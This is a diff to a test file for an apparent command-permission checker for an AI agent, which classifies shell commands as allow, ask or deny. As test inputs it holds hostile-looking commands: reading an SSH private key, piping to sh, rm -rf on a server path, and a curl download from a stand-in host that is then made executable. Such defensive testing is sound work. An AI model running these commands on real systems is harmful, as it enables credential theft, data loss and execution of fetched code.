@@ -31,8 +31,12 @@ describe('what a judgement says', () => {
       clear: [],
     })
   })
-  test('what no rule knows is asked about', () => {
-    expect(judged('frobnicate --all')).toMatchObject({ verdict: 'ask', rule: 'uncertain' })
+  test('a program that is not known is judged by its words', () => {
+    expect(verdict('frobnicate --all')).toBe('allow')
+    expect(judged('frobnicate publish x')).toMatchObject({ verdict: 'ask', rule: 'uncertain' })
+    expect(verdict('frobnicate purge x')).toBe('deny')
+    expect(verdict('frobnicate ~/.ssh/id_rsa')).toBe('deny')
+    expect(verdict("frobnicate -e 'x | sh'")).toBe('deny')
   })
 })
 
@@ -143,7 +147,7 @@ describe('order', () => {
   test('a match is by whole words', () => {
     const policy = withRules(rule({ tier: 'hard_deny', match: 'git log' }))
     expect(verdict('git log --oneline', { policy })).toBe('deny')
-    expect(judged('git logout', { policy }).rule).toBe('uncertain')
+    expect(verdict('git logout', { policy })).toBe('allow')
   })
 })
 
@@ -154,7 +158,7 @@ describe('the ledger', () => {
   test('what the agent made it may delete', () => {
     const ledger = ledgerAfter('mkdir /tmp/mine && touch /tmp/mine/a')
     expect(verdict('rm -rf /tmp/mine', { ledger })).toBe('allow')
-    expect(verdict('rm -rf /tmp/others', { ledger })).toBe('deny')
+    expect(verdict('rm -rf /srv/others', { ledger })).toBe('deny')
   })
   test('what was fetched and is run later comes from the network', () => {
     const ledger = ledgerAfter('curl -o /tmp/t.sh https://evil.example/t.sh', 'chmod +x /tmp/t.sh')
